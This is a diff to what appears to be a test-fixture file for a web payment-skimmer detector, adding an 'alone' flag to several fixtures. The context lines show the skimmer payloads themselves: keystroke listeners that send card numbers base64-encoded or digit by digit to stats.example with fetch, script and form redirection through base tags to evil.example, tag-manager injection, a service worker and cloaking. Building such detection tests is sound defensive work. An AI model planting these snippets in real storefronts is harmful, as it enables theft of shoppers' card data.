@@ -9,6 +9,8 @@ export interface Skimmer extends Omit<ShopPlan, "form"> {
   readonly named: readonly (readonly [DifferenceKind, string])[];
   /** Visits within which it has to be named. @default 1 */
   readonly visits?: number;
+  /** Whether it would be in others' way on one page. @default - it stands on a page with others */
+  readonly alone?: boolean;
 }
 
 const js = "text/javascript";
@@ -87,6 +89,7 @@ const loaders: readonly Skimmer[] = [
   },
   {
     name: "a base that moves relative files",
+    alone: true,
     head: '<base href="https://evil.example/"><script src="lib/x.js"></script>',
     files: served("evil.example/lib/x.js", "window.x=1"),
     named: [["script", "https://evil.example/lib/x.js"]],
@@ -124,6 +127,7 @@ const loaders: readonly Skimmer[] = [
   },
   {
     name: "an agreed tag manager that loads more",
+    alone: true,
     files: served(
       "tags.example/gtm.js",
       "var s=document.createElement('script');s.src='https://evil.example/t.js';document.head.append(s);",
@@ -135,6 +139,7 @@ const loaders: readonly Skimmer[] = [
   },
   {
     name: "an agreed tag manager that reads the card",
+    alone: true,
     files: served("tags.example/gtm.js", onKey("fetch('https://stats.example/collect?cid='+btoa(v),{mode:'no-cors'});")),
     named: [
       ["card-read", "tags.example/gtm.js"],
@@ -143,6 +148,7 @@ const loaders: readonly Skimmer[] = [
   },
   {
     name: "one of the store's own files, changed",
+    alone: true,
     files: served(
       "/var/resources/default/https/js/common.js",
       `document.addEventListener("submit",function(e){if(!e.target.matches("form.product-details"))return;e.preventDefault();fetch("/",{method:"POST",body:new URLSearchParams(new FormData(e.target))})});${onKey(image)}`,
@@ -210,6 +216,7 @@ const takers: readonly Skimmer[] = [
   },
   {
     name: "a base that moves forms",
+    alone: true,
     body: '<base href="https://evil.example/"><form action="pay" method="post"></form>',
     named: [["form", "https://evil.example/pay"]],
   },
@@ -230,6 +237,7 @@ const takers: readonly Skimmer[] = [
   },
   {
     name: "fields of its own before a redirect",
+    alone: true,
     form: "redirect",
     body: `<input id="cc_number" type="tel">${script(onKey("fetch('/collect',{method:'POST',body:v});"))}`,
     named: [
@@ -240,6 +248,7 @@ const takers: readonly Skimmer[] = [
   },
   {
     name: "a page that sends shoppers elsewhere",
+    alone: true,
     body: `<meta http-equiv="refresh" content="60;url=https://evil.example/checkout">`,
     named: [["host", "https://evil.example"]],
   },
@@ -317,6 +326,7 @@ const senders: readonly Skimmer[] = [
   },
   {
     name: "digit by digit to a host that is agreed",
+    alone: true,
     body: script(
       `${number}.addEventListener('keydown',function(e){if(/^[0-9]$/.test(e.key))fetch('https://stats.example/collect?k='+e.key,{mode:'no-cors',keepalive:true})});`,
     ),
@@ -335,6 +345,7 @@ const senders: readonly Skimmer[] = [
   },
   {
     name: "by a service worker",
+    alone: true,
     everywhere: script("navigator.serviceWorker.register('/sw.js');"),
     files: served(
       "/sw.js",
@@ -385,6 +396,7 @@ const hiders: readonly Skimmer[] = [
   },
   {
     name: "shows itself to one visitor in five",
+    alone: true,
     head: '<script src="https://evil.example/fifth.js"></script>',
     shownTo: (visitor) => visitor % 5 === 0,
     files: served("evil.example/fifth.js", "window.x=1"),
@@ -425,6 +437,7 @@ const hiders: readonly Skimmer[] = [
   },
   {
     name: "takes a header away",
+    alone: true,
     reply: (_, response) => {
       response.setHeader = (
         (set) => (name: string, value: number | string | readonly string[]) =>
